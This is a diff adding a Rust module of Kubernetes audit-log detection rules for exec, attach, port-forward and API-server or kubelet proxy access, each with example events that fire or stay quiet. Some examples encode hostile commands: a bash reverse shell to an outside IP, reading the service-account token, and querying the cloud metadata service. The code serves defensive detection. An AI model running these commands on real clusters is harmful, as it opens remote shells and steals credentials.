@@ -1,0 +1,365 @@
+//! Getting into containers and nodes through the API server: exec, attach, port-forward, proxies.
+
+use airside_types::attack::technique;
+use airside_types::{Entity, Severity, Source, Tactic};
+
+use super::super::request::Request;
+use super::super::{exec, links};
+use super::{Definition, Ended, Firing, On};
+use crate::command::{self, Command};
+use crate::rule::{Examples, LIKELY, PLAUSIBLE, Rule, SURE};
+
+/// A WebSocket's request is a `get`; SPDY's is a `create`.
+const CONNECT: &[&str] = &["create", "get"];
+const EVERY_VERB: &[&str] = &["create", "get", "update", "patch", "delete"];
+const EXEC: &[&str] = &["pods/exec"];
+
+pub(super) static RULES: &[Definition] = &[
+    Definition {
+        rule: Rule {
+            id: "AUD-R24",
+            version: 1,
+            title: "Command run in a pod through the API server",
+            why: "A shell in a container sees what the container sees. People do it to debug, and intruders do it to move.",
+            severity: Severity::Low,
+            confidence: SURE,
+            tactic: Tactic::Execution,
+            techniques: &[technique("T1609")],
+            equivalents: &[
+                "falco:Attach/Exec Pod",
+                "panther:GCP.K8s.ExecIntoPod",
+                "sigma:Potential Remote Command Execution In Pod Container",
+                "elastic:Kubernetes User Exec into Pod",
+                "crowdsec:crowdsecurity/k8s-audit-pod-exec",
+            ],
+            source: Source::Audit,
+            examples: Some(Examples {
+                fires: r#"{"stage":"ResponseStarted","verb":"get","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=sh&container=web&tty=true","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
+                quiet: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=sh","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":403}}"#,
+            }),
+        },
+        on: On::Resources(CONNECT, EXEC),
+        ended: Ended::Done,
+        when: |request| {
+            let line = exec::command_line(request);
+            let what = if line.is_empty() { "a command" } else { "a command line" };
+            let severity =
+                if request.actor().is_workload() { Severity::Medium } else { Severity::Low };
+            Some(exec_firing(request, &format!("ran {what}")).at(severity))
+        },
+    },
+    Definition {
+        rule: Rule {
+            id: "AUD-R25",
+            version: 1,
+            title: "Command run in a pod of the cluster itself",
+            why: "Pods of the system namespaces hold the cluster's own rights.",
+            severity: Severity::Medium,
+            confidence: LIKELY,
+            tactic: Tactic::Execution,
+            techniques: &[technique("T1609")],
+            equivalents: &[],
+            source: Source::Audit,
+            examples: Some(Examples {
+                fires: r#"{"verb":"create","requestURI":"/api/v1/namespaces/kube-system/pods/etcd-0/exec?command=sh","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"kube-system","name":"etcd-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
+                quiet: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=sh","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
+            }),
+        },
+        on: On::Resources(CONNECT, EXEC),
+        ended: Ended::Done,
+        when: |request| {
+            request.is_in_system_namespace().then(|| exec_firing(request, "ran a command"))
+        },
+    },
+    Definition {
+        rule: Rule {
+            id: "AUD-R26",
+            version: 1,
+            title: "Credentials read through exec",
+            why: "The command reads a token, a key or an environment: what is read is known outside from now on.",
+            severity: Severity::High,
+            confidence: LIKELY,
+            tactic: Tactic::CredentialAccess,
+            techniques: &[technique("T1552.001"), technique("T1528")],
+            equivalents: &[],
+            source: Source::Audit,
+            examples: Some(Examples {
+                fires: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
+                quiet: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=cat&command=%2Fetc%2Fhostname","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
+            }),
+        },
+        on: On::Resources(CONNECT, EXEC),
+        ended: Ended::Done,
+        when: |request| exec_doing(request, Command::reads_credentials, "read credentials"),
+    },
+    Definition {
+        rule: Rule {
+            id: "AUD-R27",
+            version: 1,
+            title: "Cloud metadata reached through exec",
+            why: "The metadata service gives out the node's cloud credentials.",
+            severity: Severity::High,
+            confidence: LIKELY,
+            tactic: Tactic::CredentialAccess,
+            techniques: &[technique("T1552.005")],
+            equivalents: &[],
+            source: Source::Audit,
+            examples: Some(Examples {
+                fires: r#"{"verb":"get","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=curl&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
+                quiet: r#"{"verb":"get","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=curl&command=http%3A%2F%2Fapi%3A8080%2F","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
+            }),
+        },
+        on: On::Resources(CONNECT, EXEC),
+        ended: Ended::Done,
+        when: |request| {
+            exec_doing(request, Command::reaches_metadata, "asked the cloud's metadata service")
+        },
+    },
+    Definition {
+        rule: Rule {
+            id: "AUD-R28",
+            version: 1,
+            title: "Reverse shell opened through exec",
+            why: "The command hands a shell to a machine outside.",
+            severity: Severity::Critical,
+            confidence: SURE,
+            tactic: Tactic::Execution,
+            techniques: &[technique("T1059.004"), technique("T1095")],
+            equivalents: &[],
+            source: Source::Audit,
+            examples: Some(Examples {
+                fires: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F198.51.100.7%2F4444+0%3E%261","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
+                quiet: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=bash&command=-i","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
+            }),
+        },
+        on: On::Resources(CONNECT, EXEC),
+        ended: Ended::Done,
+        when: |request| exec_doing(request, Command::is_reverse_shell, "opened a reverse shell"),
+    },
+    Definition {
+        rule: Rule {
+            id: "AUD-R29",
+            version: 1,
+            title: "File downloaded through exec",
+            why: "Tools that an image does not have are brought in this way.",
+            severity: Severity::Medium,
+            confidence: PLAUSIBLE,
+            tactic: Tactic::CommandAndControl,
+            techniques: &[technique("T1105")],
+            equivalents: &[],
+            source: Source::Audit,
+            examples: Some(Examples {
+                fires: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=wget&command=https%3A%2F%2Fexample.net%2Ft","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
+                quiet: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=wget&command=--version","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
+            }),
+        },
+        on: On::Resources(CONNECT, EXEC),
+        ended: Ended::Done,
+        when: |request| exec_doing(request, Command::downloads, "downloaded a file"),
+    },
+    Definition {
+        rule: Rule {
+            id: "AUD-R30",
+            version: 1,
+            title: "Files copied out of a pod",
+            why: "This is what `kubectl cp` sends; the files leave with the answer.",
+            severity: Severity::Low,
+            confidence: PLAUSIBLE,
+            tactic: Tactic::Collection,
+            techniques: &[technique("T1005"), technique("T1041")],
+            equivalents: &[],
+            source: Source::Audit,
+            examples: Some(Examples {
+                fires: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=tar&command=cf&command=-&command=%2Fdata","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
+                quiet: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=tar&command=xmf&command=-","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
+            }),
+        },
+        on: On::Resources(CONNECT, EXEC),
+        ended: Ended::Done,
+        when: |request| exec_doing(request, Command::archives_to_stdout, "copied files out"),
+    },
+    Definition {
+        rule: Rule {
+            id: "AUD-R31",
+            version: 1,
+            title: "Port forwarded to a pod",
+            why: "A tunnel past every network policy, to ports that no service exposes.",
+            severity: Severity::Info,
+            confidence: SURE,
+            tactic: Tactic::LateralMovement,
+            techniques: &[technique("T1572"), technique("T1090")],
+            equivalents: &[],
+            source: Source::Audit,
+            examples: Some(Examples {
+                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"db-0","subresource":"portforward"},"responseStatus":{"code":101}}"#,
+                quiet: r#"{"verb":"get","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"db-0","subresource":"log"},"responseStatus":{"code":200}}"#,
+            }),
+        },
+        on: On::Resources(CONNECT, &["pods/portforward"]),
+        ended: Ended::Done,
+        when: |request| {
+            let by_workload = request.actor().is_workload();
+            let severity = if by_workload { Severity::Medium } else { Severity::Info };
+            Some(in_pod(request, "opened a tunnel to a port").at(severity))
+        },
+    },
+    Definition {
+        rule: Rule {
+            id: "AUD-R32",
+            version: 1,
+            title: "Attached to a container",
+            why: "Attaching reads and feeds the main process of a container.",
+            severity: Severity::Low,
+            confidence: SURE,
+            tactic: Tactic::Execution,
+            techniques: &[technique("T1609")],
+            equivalents: &["falco:Attach/Exec Pod"],
+            source: Source::Audit,
+            examples: Some(Examples {
+                fires: r#"{"verb":"get","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"attach"},"responseStatus":{"code":101}}"#,
+                quiet: r#"{"verb":"get","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0"},"responseStatus":{"code":200}}"#,
+            }),
+        },
+        on: On::Resources(CONNECT, &["pods/attach"]),
+        ended: Ended::Done,
+        when: |request| Some(in_pod(request, "attached to a container")),
+    },
+    Definition {
+        rule: Rule {
+            id: "AUD-R33",
+            version: 1,
+            title: "Ephemeral container added to a pod",
+            why: "A debugging container joins a running pod with an image of one's choice, and no admission of a new pod.",
+            severity: Severity::Medium,
+            confidence: SURE,
+            tactic: Tactic::PrivilegeEscalation,
+            techniques: &[technique("T1610"), technique("T1611")],
+            equivalents: &[],
+            source: Source::Audit,
+            examples: Some(Examples {
+                fires: r#"{"verb":"patch","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"ephemeralcontainers"},"responseStatus":{"code":200}}"#,
+                quiet: r#"{"verb":"patch","user":{"username":"system:node:node-1"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"status"},"responseStatus":{"code":200}}"#,
+            }),
+        },
+        on: On::Resources(&["update", "patch", "create"], &["pods/ephemeralcontainers"]),
+        ended: Ended::Done,
+        when: |request| Some(in_pod(request, "added an ephemeral container")),
+    },
+    Definition {
+        rule: Rule {
+            id: "AUD-R34",
+            version: 1,
+            title: "Service or pod reached through the API server's proxy",
+            why: "The proxy reaches inside ports with the API server's own address.",
+            severity: Severity::Info,
+            confidence: PLAUSIBLE,
+            tactic: Tactic::LateralMovement,
+            techniques: &[technique("T1090")],
+            equivalents: &[],
+            source: Source::Audit,
+            examples: Some(Examples {
+                fires: r#"{"verb":"get","requestURI":"/api/v1/namespaces/ops/services/grafana:80/proxy/api/users","user":{"username":"dana"},"objectRef":{"resource":"services","namespace":"ops","name":"grafana:80","subresource":"proxy"},"responseStatus":{"code":200}}"#,
+                quiet: r#"{"verb":"get","requestURI":"/api/v1/namespaces/ops/services/grafana","user":{"username":"dana"},"objectRef":{"resource":"services","namespace":"ops","name":"grafana"},"responseStatus":{"code":200}}"#,
+            }),
+        },
+        on: On::Resources(EVERY_VERB, &["services/proxy", "pods/proxy"]),
+        ended: Ended::Done,
+        when: |request| {
+            (!request.is_by_trusted_system()).then(|| {
+                let severity =
+                    if request.is_workload_by_hand() { Severity::Medium } else { Severity::Info };
+                Firing::new(format!("reached {}", request.path()))
+                    .at(severity)
+                    .with("requestURI", request.path())
+            })
+        },
+    },
+    Definition {
+        rule: Rule {
+            id: "AUD-R35",
+            version: 1,
+            title: "Kubelet reached through the API server's proxy",
+            why: "The kubelet's API lists and enters all pods of its node, past admission and most auditing.",
+            severity: Severity::Medium,
+            confidence: LIKELY,
+            tactic: Tactic::LateralMovement,
+            techniques: &[technique("T1210"), technique("T1611")],
+            equivalents: &[],
+            source: Source::Audit,
+            examples: Some(Examples {
+                fires: r#"{"verb":"get","requestURI":"/api/v1/nodes/node-1/proxy/pods?x=metrics","user":{"username":"dana"},"objectRef":{"resource":"nodes","name":"node-1","subresource":"proxy"},"responseStatus":{"code":200}}"#,
+                quiet: r#"{"verb":"get","requestURI":"/api/v1/nodes/node-1/proxy/metrics/cadvisor","user":{"username":"system:serviceaccount:ops:prometheus"},"objectRef":{"resource":"nodes","name":"node-1","subresource":"proxy"},"responseStatus":{"code":200}}"#,
+            }),
+        },
+        on: On::Resources(EVERY_VERB, &["nodes/proxy"]),
+        ended: Ended::Done,
+        when: |request| kubelet_proxy(request).filter(|_| !enters_container(request)),
+    },
+    Definition {
+        rule: Rule {
+            id: "AUD-R36",
+            version: 1,
+            title: "Command run through the kubelet's API",
+            why: "Entering a container this way needs no right to exec, and the audit log shows no exec.",
+            severity: Severity::High,
+            confidence: SURE,
+            tactic: Tactic::Execution,
+            techniques: &[technique("T1609"), technique("T1210")],
+            equivalents: &[],
+            source: Source::Audit,
+            examples: Some(Examples {
+                fires: r#"{"verb":"get","requestURI":"/api/v1/nodes/node-1/proxy/exec/shop/web-0/web?command=id","user":{"username":"dana"},"objectRef":{"resource":"nodes","name":"node-1","subresource":"proxy"},"responseStatus":{"code":101}}"#,
+                quiet: r#"{"verb":"get","requestURI":"/api/v1/nodes/node-1/proxy/healthz","user":{"username":"dana"},"objectRef":{"resource":"nodes","name":"node-1","subresource":"proxy"},"responseStatus":{"code":200}}"#,
+            }),
+        },
+        on: On::Resources(EVERY_VERB, &["nodes/proxy"]),
+        ended: Ended::Done,
+        when: |request| kubelet_proxy(request).filter(|_| enters_container(request)),
+    },
+];
+
+/// A firing about what was done in the pod that the path names.
+fn in_pod(request: &Request<'_>, deed: &str) -> Firing {
+    let container = exec::container(request);
+    let within =
+        if container.is_empty() { String::new() } else { format!(", container {container}") };
+    Firing::new(format!("{deed} in pod {}/{}{within}", request.namespace(), request.name()))
+        .with("objectRef.subresource", request.subresource())
+}
+
+fn exec_firing(request: &Request<'_>, deed: &str) -> Firing {
+    let line = exec::command_line(request);
+    let shown = command::shown(&line, 120);
+    let deed = if line.is_empty() { deed.to_owned() } else { format!("{deed} (`{shown}`)") };
+    in_pod(request, &deed).with("command", &line)
+}
+
+fn exec_doing(request: &Request<'_>, does: fn(&Command) -> bool, deed: &str) -> Option<Firing> {
+    does(&exec::command(request)).then(|| exec_firing(request, deed))
+}
+
+/// The path below the kubelet's address.
+fn kubelet_path<'e>(request: &Request<'e>) -> &'e str {
+    request.path().split_once("/proxy").map_or("", |(_, path)| path)
+}
+
+fn enters_container(request: &Request<'_>) -> bool {
+    const ENTRANCES: [&str; 5] = ["/exec/", "/run/", "/attach/", "/portForward/", "/cri/"];
+    ENTRANCES.iter().any(|prefix| kubelet_path(request).starts_with(prefix))
+}
+
+/// Monitoring reads figures through this proxy; everything else counts. Only the path decides, as the
+/// query is free for a client to fill.
+fn kubelet_proxy(request: &Request<'_>) -> Option<Firing> {
+    let path = kubelet_path(request);
+    let is_figures = ["/metrics", "/stats", "/healthz"].iter().any(|figures| {
+        path.strip_prefix(figures).is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
+    });
+    let counts = !(is_figures && request.verb() == "get") && !request.is_by_trusted_system();
+    counts.then(|| {
+        let node: Entity = links::node(request.name(), None);
+        Firing::new(format!("reached the kubelet of node {} at {path}", request.name()))
+            .with("requestURI", request.path())
+            .on(node)
+    })
+}
